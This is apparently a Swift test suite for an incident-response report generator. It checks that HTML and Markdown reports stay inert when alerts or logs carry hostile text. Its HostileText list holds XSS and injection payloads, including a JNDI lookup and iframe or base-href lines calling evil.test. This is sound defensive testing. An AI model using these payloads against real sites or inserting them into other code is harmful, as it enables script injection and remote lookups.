import AuditTrail
import Diagnostics
import Foundation
import Investigation
import RunbookEngine
import RunbookLanguage
import RunbookPorts
import Testing
import Values

@testable import tocsin

/// Reports of recorded runs: whole, readable, and never more than text.
@Suite struct ReportTests {
  private static func report(_ run: CutRun) throws -> CaseReport {
    CaseReport(try RecordedRun("latest", from: run.reader), from: run.reader, semantics: [Program.semantics])
  }

  @Test func `a report tells verdict, answers, evidence, series, people and time`() async throws {
    let run = try CutRun(ShippedCase.webShell)
    _ = try await run.run(cutAfter: nil)
    let report = try Self.report(run)
    #expect(report.verdict == "intrusion")
    #expect(report.questions.contains { $0.id == "spike" })
    #expect(report.notices.allSatisfy { $0.outcome == "handed over for delivery" } && !report.notices.isEmpty)
    #expect(report.queries.contains { $0.table?.count ?? 0 > 0 })
    #expect(!report.timeline.contains { ["entities.found", "wait.ended"].contains($0.text) })
    let thresholds = try RecordedRun("latest", from: run.reader).json["thresholds"]?.elements ?? []
    #expect(thresholds.contains { $0["threshold"]?.text == "burst" && $0["expected"] != nil })
    let chart = try #require(report.charts.first)
    let judged = try #require(chart.judgements.first)
    #expect(judged.isBreached && judged.breach != nil && judged.high != nil && judged.expected != nil)
    #expect(report.verification.filter { !$0.isGood }.map(\.text) == [])
    #expect(report.timeline.map(\.at) == report.timeline.map(\.at).sorted())
    let html = HTMLReport.text(of: report)
    for part in [
      "intrusion", "<svg", "class=\"narrow\"", "class=\"breach\"", "class=\"band\"", "127.66.23.91", "handed over",
      "Timeline",
    ] {
      #expect(html.contains(part), "\(part)")
    }
    // The band begins where the window does, which is no thin line at the edge of a long history.
    #expect(judged.learnedUntil != nil)
    let bands = html.matches(of: /class="band" x="([0-9.]+)"[^>]* width="([0-9.]+)"/)
    let shares = bands.compactMap { band in
      Double(band.output.1).flatMap { from in Double(band.output.2).map { $0 / (from - 64 + $0) } }
    }
    #expect(shares.count >= 2 && shares.allSatisfy { $0 > 0.15 && $0 < 0.9 }, "\(shares)")
    let markdown = MarkdownReport.text(of: report)
    for part in ["# Was I hacked", "## intrusion", "### Was it an attack", "| --- |"] {
      #expect(markdown.contains(part), "\(part)")
    }
    #expect(report.json["charts"]?.elements?.count == report.charts.count)
  }

  @Test func `the page loads nothing and runs nothing`() async throws {
    let run = try CutRun(ShippedCase.webShell)
    _ = try await run.run(cutAfter: nil)
    let html = HTMLReport.text(of: try Self.report(run))
    #expect(html.contains("default-src &#39;none&#39;; style-src &#39;sha256-"))
    for part in [
      "<script", "javascript:", "href=", "src=", "<img", "<iframe", "style=", "onload", "http://", "@import",
    ] {
      #expect(!html.contains(part), "\(part)")
    }
  }

  @Test(arguments: HostileText.all)
  func `whatever an alert or a log says is text in every report`(text: String) async throws {
    let run = try await HostileRun(text)
    let report = CaseReport(run.recorded, from: run.reader, semantics: [Program.semantics])
    let html = HTMLReport.text(of: report)
    let elements = HostileText.elements(in: html)
    let calm = try await HostileRun("calm")
    let expected = HostileText.elements(
      in: HTMLReport.text(
        of: CaseReport(calm.recorded, from: calm.reader, semantics: [Program.semantics])))
    #expect(elements == expected)
    #expect(!html.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" || $0 == "\u{202E}" })
    let markdown = MarkdownReport.text(of: report)
    #expect(!markdown.contains("<script") && !markdown.contains("](") && !markdown.contains("![ "))
    #expect(!markdown.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" || $0 == "\u{202E}" })
  }

  @Test(.enabled(if: Chromium.path != nil, "needs Chromium"))
  func `a browser shows the page, with nothing broken and nothing run`() async throws {
    let chromium = try #require(Chromium.path)
    let run = try await HostileRun(HostileText.all.joined(separator: " "))
    let html = HTMLReport.text(
      of: CaseReport(run.recorded, from: run.reader, semantics: [Program.semantics]))
    let folder = try ScratchFolder()
    try folder.write("case.html", html)
    let shown = try Chromium.document(chromium, of: "\(folder.path)/case.html", home: folder.path)
    // What a script would have left, and what only a page that was read to its end has.
    #expect(!shown.contains("PWNED-BY-SCRIPT"))
    #expect(shown.contains("What this rests on"))
    #expect(HostileText.elements(in: shown).sorted() == HostileText.elements(in: html).sorted())
  }
}

/// Texts that want to be more than text.
enum HostileText {
  static let all = [
    "<script>document.title='PWNED-'+'BY-SCRIPT'</script>", "\"><img src=x onerror=alert(1)>",
    "</title><script>1</script>",
    "'-alert(1)-'", "</style><style>*{display:none}</style>", "<svg/onload=alert(1)>", "&lt;script&gt;", "]]>--><!--",
    "[link](javascript:alert(1)) ![x](http://evil.test/a.png)", "| a | b |\n| --- |\n# heading\n<b>bold</b>",
    "\u{202E}txt.exe\u{2028}\u{1B}[2J\u{7F}", "</body></html><iframe src=//evil.test>", "${jndi:ldap://evil.test}",
    "<a href='javascript:alert(1)'>x</a>", "\u{FEFF}<base href=//evil.test>",
  ]

  /// The names of the elements that begin in a page, in their order.
  static func elements(in html: String) -> [String] {
    // Browsers put the rows of every table into a body of their own.
    html.matches(of: /<([a-zA-Z][a-zA-Z0-9]*)/).map { String($0.1).lowercased() }.filter { $0 != "tbody" }
  }
}

/// A small run on an alert and data that hold one text.
struct HostileRun {
  let recorded: RecordedRun
  let reader: TrailReader
  private let scratch: ScratchFolder

  init(_ text: String) async throws {
    scratch = try ScratchFolder()
    let quoted = JSON.string(text).compactText
    try scratch.write("rows.jsonl", "{\"time\":\"2026-03-02T09:59:00Z\",\"who\":\(quoted),\"what\":\(quoted)}\n")
    let runbook = """
      tocsin: 1
      runbook: hostile
      title: A hostile text
      alert: {when: 'true', at: alert.startsAt, fields: {text: alert.labels.text}}
      questions:
        seen:
          each: person
          ask: What did ${person} do about ${text}?
          answer: events.size() > 0
          finding: ${events.what}
          then: {yes: bad, no: benign}
      verdicts:
        bad: {severity: high, means: "It was ${text}", escalate: call, advise: ["Look at ${person}"]}
      entities: {person: people.who}
      queries:
        people: {from: rows, window: none, sql: "SELECT DISTINCT who FROM rows", rows: {who: string}}
        events: {from: rows, window: none, each: person, sql: "SELECT who AS person, what FROM rows WHERE who IN ${person}", rows: {person: string, what: string}}
      contacts: {desk: {email: desk@example.test}}
      escalations: {call: [{notify: [desk]}]}
      """
    try scratch.write("hostile.runbook.yaml", runbook)
    try scratch.write(
      "tocsin.yaml",
      """
      deployment: 1
      recorded: true
      sources:
        rows: {adapter: jsonl, path: rows.jsonl, columns: {time: timestamp, who: string, what: string}, silence: normal}
      """)
    try scratch.write(
      "alert.json", "{\"labels\":{\"alertname\":\(quoted),\"text\":\(quoted)},\"startsAt\":\"2026-03-02T10:00:00Z\"}")
    let shipped = ShippedCase(
      runbook: "\(scratch.path)/hostile.runbook.yaml", configuration: "\(scratch.path)/tocsin.yaml",
      folder: scratch.path)
    let run = try CutRun(shipped)
    _ = try await run.run(cutAfter: nil)
    recorded = try RecordedRun("latest", from: run.reader)
    reader = run.reader
    try #require(recorded.last("run.closed")?.body["verdict"]?.text == "bad")
    keep = run.scratch
  }

  private let keep: ScratchFolder
}

/// A browser without a window, where there is one.
enum Chromium {
  static let path = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"].first {
    FileManager.default.isExecutableFile(atPath: $0)
  }

  /// The document as the browser holds it once it is loaded.
  static func document(_ browser: String, of page: String, home: String) throws -> String {
    let process = Process()
    let output = "\(home)/dom.html"
    _ = FileManager.default.createFile(atPath: output, contents: nil)
    process.executableURL = URL(fileURLWithPath: browser)
    process.arguments = [
      "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--user-data-dir=\(home)/browser",
      "--virtual-time-budget=5000", "--dump-dom", "file://\(page)",
    ]
    process.standardOutput = FileHandle(forWritingAtPath: output)
    process.standardError = FileHandle.nullDevice
    process.standardInput = FileHandle.nullDevice
    try process.run()
    process.waitUntilExit()
    return String(decoding: try Data(contentsOf: URL(fileURLWithPath: output)), as: UTF8.self)
  }
}
